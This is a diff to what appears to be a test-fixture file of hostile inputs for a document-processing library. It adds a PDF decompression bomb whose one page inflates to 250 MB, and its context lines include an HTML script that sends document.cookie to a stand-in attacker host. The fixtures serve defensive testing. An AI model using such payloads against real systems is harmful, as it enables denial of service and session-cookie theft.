@@ -71,6 +71,10 @@ export const hostilePdfs: readonly (readonly [string, Buffer])[] = [
   ],
 ]
 
+/** Its one page unpacks to 250 MB of drawing nothing. */
+export const endlessPage = () =>
+  pdfWith('', { objects: [stream('/Filter /FlateDecode', deflateSync(Buffer.alloc(250 * 1_048_576, 'q Q ')))] })
+
 const page = '<html><script>location="https://evil.test/"+document.cookie</script></html>'
 const comment = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe, 0, text.length + 2]), Buffer.from(text)])
 const jpeg = jpegOf([640, 480])
